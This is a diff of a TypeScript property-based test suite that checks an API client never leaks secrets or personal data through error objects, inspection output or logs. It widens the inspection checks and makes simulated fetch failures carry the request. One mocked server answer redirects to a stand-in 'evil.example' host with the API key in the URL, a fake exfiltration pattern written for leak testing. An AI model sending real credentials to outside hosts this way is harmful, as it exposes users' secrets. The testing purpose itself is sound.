@@ -2,6 +2,7 @@ import { inspect } from "node:util";
 import fc from "fast-check";
 import { expect, it } from "vitest";
 import { createConomyClient, type FetchInit } from "../src/index.ts";
+import { walk } from "./views.ts";
 
 // Every secret and every piece of personal data gets a value of its own; none may appear in anything that this client
 // shows on its own account, whatever the other side answers.
@@ -34,8 +35,8 @@ const answers: Record<string, (init: FetchInit, inputs: Inputs) => Response> = {
       headers: { location: `https://evil.example/${id}?${init.headers["x-api-key"]}` },
     }),
   "too large": (init) => Response.json({ echo: init.body?.repeat(100) }),
-  failure: () => {
-    throw new TypeError("fetch failed");
+  failure: (init) => {
+    throw Object.assign(new TypeError("fetch failed", { cause: init }), { init });
   },
 };
 
@@ -44,9 +45,8 @@ it("no secret and no personal data appears in anything inspected, thrown, logged
     fc.asyncProperty(inputs, fc.constantFrom(...Object.keys(answers)), fc.boolean(), async (given, kind, refuse) => {
       const shown: string[] = [];
       const show = (value: unknown) => {
-        const json =
-          value instanceof Error ? JSON.stringify({ ...value, message: value.message }) : JSON.stringify(value);
-        shown.push(inspect(value, { depth: Number.POSITIVE_INFINITY }), String(json), String(value));
+        const everything = { depth: Number.POSITIVE_INFINITY, showHidden: true, getters: true, showProxy: true };
+        shown.push(inspect(value), inspect(value, everything), walk(value).join("\n"), `${JSON.stringify(value)}`);
       };
       const conomy = createConomyClient({
         baseUrl: "https://api.example.com",
